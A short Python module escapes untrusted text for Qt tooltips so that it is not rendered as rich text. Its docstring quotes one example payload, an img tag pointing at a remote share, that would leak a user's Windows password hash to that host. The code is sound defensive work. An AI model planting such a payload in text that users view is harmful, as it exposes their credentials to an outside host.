"""Tooltips of texts that are not ours: shown as they are written, never as rich text.

Qt reads a tooltip that looks like HTML as HTML, and then opens the files its pictures name: a title
with ``<img src="//host/share/x">`` would hand the person's Windows password hash to that host.
"""

from html import escape


def plain_tip(text: str) -> str:
    """The tooltip that shows ``text`` letter by letter. Without a ``<`` Qt sees no HTML in it."""
    if "<" not in text:
        return text
    return f"<qt>{escape(text).replace(chr(10), '<br>')}</qt>"
